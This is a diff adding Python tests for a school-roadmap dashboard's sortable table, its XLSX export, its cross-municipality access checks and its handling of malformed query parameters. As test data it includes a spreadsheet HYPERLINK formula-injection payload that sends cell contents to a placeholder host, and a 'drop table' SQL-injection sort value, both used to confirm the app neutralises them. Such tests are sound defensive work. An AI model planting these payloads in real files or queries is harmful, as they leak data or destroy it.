@@ -4,6 +4,8 @@ return loop in one step, typed text kept after an error, the in-page viewer, «�
 
 from __future__ import annotations
 
+import html
+import io
 import re
 from datetime import UTC, datetime, timedelta
 
@@ -590,3 +592,152 @@ def test_the_region_opens_a_municipality_into_its_schools(app, two_roadmaps) -> 
     schools = regional.get(link).text
     assert 'id="schools"' in schools and "МБОУ Ершичская СШ" in schools
     assert "Все муниципалитеты" in schools
+
+
+# --- the dashboard's table: sorted as asked, exported as shown --------------------------------
+
+ROW = re.compile(r'<tr class="(?:overdue)?">\s*<td class="card-title">(.*?)</td>(.*?)</tr>', re.S)
+
+
+def table(page: str) -> list[tuple[str, int, int, int, int, int, int]]:
+    """The dashboard's table: (name, tasks, approved, due, approved of due, under review,
+    overdue) per row, in the page's order."""
+    rows = []
+    for title, cells in ROW.findall(page):
+        name = html.unescape(re.sub(r"<[^>]+>", "", title)).strip()
+        done_due, due = map(int, re.search(r"\((\d+) из (\d+)\)", cells).groups())
+        rows.append(
+            (
+                name,
+                int(re.search(r'data-label="Задач">(\d+)<', cells).group(1)),
+                int(re.search(r"% \((\d+)\)</td>", cells).group(1)),
+                due,
+                done_due,
+                int(re.search(r'data-label="На проверке">(\d+)<', cells).group(1)),
+                int(re.search(r'data-label="Просрочено"[^>]*>(\d+)<', cells).group(1)),
+            )
+        )
+    return rows
+
+
+def test_the_dashboard_table_sorts_by_a_column_either_way(app, two_roadmaps) -> None:
+    client = client_as(app, "coordinator")
+    by_name = table(client.get("/dashboard").text)
+    assert by_name[0][0] == "Муниципалитет (Ершичский район)"  # its own work first
+    schools = [row[0] for row in by_name[1:]]
+    assert len(set(row[6] for row in by_name)) > 1, "the data set has different overdue counts"
+    worst = client.get("/dashboard", query_string={"sort": "overdue", "dir": "desc"}).text
+    rows = table(worst)
+    assert sorted(rows) == sorted(by_name) and rows != by_name
+    assert [row[6] for row in rows] == sorted((row[6] for row in rows), reverse=True)
+    header = re.search(
+        r'<th aria-sort="descending"><a class="sort" href="([^"]+)">Просрочено', worst
+    )
+    assert header and "dir=asc" in header.group(1)  # pressed again, it turns
+    best = table(client.get(html.unescape(header.group(1))).text)
+    assert [row[6] for row in best] == sorted(row[6] for row in best)
+    names = table(client.get("/dashboard", query_string={"sort": "name", "dir": "desc"}).text)
+    assert [row[0] for row in names[1:]] == schools[::-1]
+    due = table(client.get("/dashboard", query_string={"sort": "percent_due"}).text)
+    shares = [done_due / due if due else 0 for _, _, _, due, done_due, _, _ in due]
+    assert shares == sorted(shares)
+
+
+def test_the_dashboard_exports_its_table_as_shown(app, two_roadmaps) -> None:
+    import openpyxl
+
+    from engine.cells import from_text
+    from engine.models import Roadmap
+
+    hostile = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
+    with unit_of_work(two_roadmaps) as session:
+        school = session.execute(
+            select(Organization).where(Organization.name == "МБОУ Ершичская СШ")
+        ).scalar_one()
+        school.name = hostile
+        roadmap = session.execute(select(Roadmap).order_by(Roadmap.id)).scalars().first()
+        roadmap_id, roadmap_title = roadmap.id, roadmap.title
+    client = client_as(app, "coordinator")
+    args = {"roadmap": roadmap_id, "sort": "overdue", "dir": "desc"}
+    page = client.get("/dashboard", query_string=args).text
+    link = html.unescape(re.search(r'href="([^"]+)" id="export-table"', page).group(1))
+    assert link.startswith("/dashboard/export.xlsx?") and "sort=overdue" in link
+    response = client.get(link)
+    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    assert roadmap_title[:40] in sheet["A1"].value and "Ершичский район" in sheet["A1"].value
+    assert [c.value for c in sheet[4]][:2] == ["Школа", "Задач"]
+    *body, total = list(sheet.iter_rows(min_row=5, values_only=True))
+    shown = table(page)
+    assert [(from_text(r[0]), r[1], r[2], r[4], r[5], r[7], r[8]) for r in body] == shown
+    assert hostile in [row[0] for row in shown]
+    cell = next(row[0] for row in sheet.iter_rows(min_row=5) if hostile in row[0].value)
+    assert cell.data_type == "s" and cell.value == "'" + hostile  # text, never a formula
+    kpis = figures(page)
+    assert total[:3] == ("Итого", kpis["total"][0], kpis["approved-total"][0])
+    assert total[7:] == (kpis["review-total"][0], kpis["overdue-total"][0])
+    assert total[1] == sum(r[1] for r in body) and total[8] == sum(r[8] for r in body)
+    assert sheet.auto_filter.ref == f"A4:I{sheet.max_row - 1}" and sheet.freeze_panes == "B5"
+    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
+    assert sheet.print_title_rows.replace("$", "") == "4:4"  # the header on every page
+
+
+def test_the_regional_export_lists_municipalities(app, two_roadmaps) -> None:
+    import openpyxl
+
+    client = client_as(app, "regional")
+    page = client.get("/dashboard").text
+    response = client.get("/dashboard/export.xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
+    assert sheet["A4"].value == "Муниципалитет"
+    names = [row[0] for row in sheet.iter_rows(min_row=5, values_only=True)]
+    assert names == [row[0] for row in table(page)] + ["Итого"]
+    assert "Ершичский район" in names
+
+
+def test_the_dashboard_names_nothing_foreign_and_refuses_junk_without_a_500(
+    app, two_roadmaps
+) -> None:
+    from engine.deadlines.parser import Period
+    from engine.importing.apply import import_roadmap
+    from engine.importing.sources import read_text
+    from engine.importing.structure import recover
+    from engine.models import OrganizationKind, Roadmap
+
+    with unit_of_work(two_roadmaps) as session:
+        home = session.execute(
+            select(Organization).where(Organization.name == "Ершичский район")
+        ).scalar_one()
+        foreign = Organization(
+            name="Чужой район", kind=OrganizationKind.MUNICIPALITY, parent_id=home.parent_id
+        )
+        session.add(foreign)
+        session.flush()
+        first = session.execute(select(Roadmap)).scalars().first()
+        text = SECOND_ROADMAP.replace("План мероприятий", "Чужая дорожная карта")
+        draft = recover(read_text(text), "plan.md", Period(first.period_start, first.period_end))
+        roadmap = import_roadmap(session, REGISTRY, draft, foreign)
+        foreign_ids = {"municipality": foreign.id, "roadmap": roadmap.roadmap_id}
+    client = client_as(app, "coordinator")
+    for path in ("/dashboard", "/dashboard/export.xlsx"):
+        response = client.get(path, query_string=foreign_ids)
+        assert response.status_code in (200, 403, 404), path
+        text = response.data.decode("utf-8", "replace") if path == "/dashboard" else ""
+        if path != "/dashboard" and response.status_code == 200:
+            import openpyxl
+
+            text = str(openpyxl.load_workbook(io.BytesIO(response.data)).active["A1"].value)
+        assert "Чужой" not in text and "Чужая" not in text, path
+    junk = [
+        {"sort": "__class__", "dir": "sideways"},
+        {"sort": "overdue; drop table organization", "dir": "desc"},
+        {"municipality": "99999999999999999999", "roadmap": "abc"},
+        {"from": "2024-13-45", "to": "вчера"},
+        {"sort": ["total", "name"], "page": "-1"},
+    ]
+    for args in junk:
+        for path in ("/dashboard", "/dashboard/export.xlsx"):
+            response = client.get(path, query_string=args)
+            assert response.status_code == 200, (path, args)  # what is unreadable is left out
+    by_junk = table(client.get("/dashboard", query_string=junk[0]).text)
+    assert by_junk == table(client.get("/dashboard").text)  # by name, as if not asked
